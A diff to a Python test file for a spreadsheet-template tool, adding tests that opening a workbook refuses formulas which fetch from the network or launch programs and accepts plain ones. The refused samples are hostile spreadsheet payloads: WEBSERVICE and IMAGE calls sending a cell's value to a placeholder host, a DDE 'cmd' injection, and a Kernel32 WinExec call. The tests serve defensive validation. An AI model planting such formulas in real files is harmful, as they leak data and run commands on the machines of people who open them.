@@ -12,16 +12,18 @@ import xlsxwriter
 from hypothesis import given
 from hypothesis import strategies as st
 from lxml import etree
-from openpyxl import load_workbook
+from openpyxl import Workbook, load_workbook
 from tests.ground.sheet.offices import xls
 from tests.returns import workbooks as sent
+from tests.returns.road import Road
 from tests.returns.workbooks import complex_form, ledger_form, parts
 
 from anwang.ground.refusal import Refusal
 from anwang.returns.errors import NotATemplate, NotBound
 from anwang.returns.filling import reckon
+from anwang.returns.suggesting import suggest
 from anwang.returns.template.layout import Grid, grids_of, moved, read_grid, split_ref
-from anwang.returns.template.opening import open_book
+from anwang.returns.template.opening import open_book, open_sent
 from anwang.returns.template.shifting import Shift
 from anwang.returns.template.shifting import moved as pushed
 from anwang.returns.template.writing import Edits, Lines, Written, write
@@ -245,3 +247,37 @@ def test_a_part_missing_or_wild_is_refused_or_read(part: str) -> None:
 
     for change in (drop, tear):
         _refused_or_read(sent.changed(complex_form_once(), change))
+
+
+@pytest.mark.parametrize(
+    "formula",
+    [
+        '=_xlfn.WEBSERVICE("http://x.invalid/?"&B3)',
+        '=_xlfn.IMAGE("http://x.invalid/"&B3)',
+        "=cmd|' /C calc'!A0",
+        '=RTD("a.b",,"c")',
+        '=1+call("Kernel32","WinExec","JCJ","calc",0)',
+    ],
+)
+def test_a_formula_that_reaches_out_is_refused(formula: str) -> None:
+    with pytest.raises(NotATemplate) as refused:
+        open_sent(sent.with_formula(formula))
+    assert "会联网取数或启动程序的公式" in refused.value.text
+
+
+@pytest.mark.parametrize(
+    "formula",
+    ["=SUM(B3:B9)", '=IF(B3=0,"cmd|a!b",1)', '=HYPERLINK("http://x.invalid","说明")', "=Recall(B3)", "='甲|乙'!A1", "+1+1", "@SUM(1)"],
+)
+def test_plain_formulas_and_texts_are_taken(formula: str) -> None:
+    assert open_sent(sent.with_formula(formula)).pages
+
+
+def test_cells_as_long_as_a_sheet_allows_are_no_labels(road: Road) -> None:
+    book = Workbook()
+    sheet = book.active
+    assert sheet is not None
+    sheet["A1"], sheet["A2"], sheet["B2"], sheet["A3"] = "隐患情况表", "填表人：" * 6000, "填报日期：   年  月  日" * 2000, " " * 32000
+    sheet["A4"], sheet["A5"] = "填报单位：", "填表人：      填报日期：   年  月  日"
+    cells = suggest(grids_of(open_sent(sent.bytes_of(book))), road.world.county, date(2026, 3, 31)).bindings.cells["Sheet"]
+    assert {ref: ask.text for ref, ask in cells.items()} == {"A4": "填报单位：{单位}", "A5": "填表人：{填表人}      填报日期：{填报日}"}
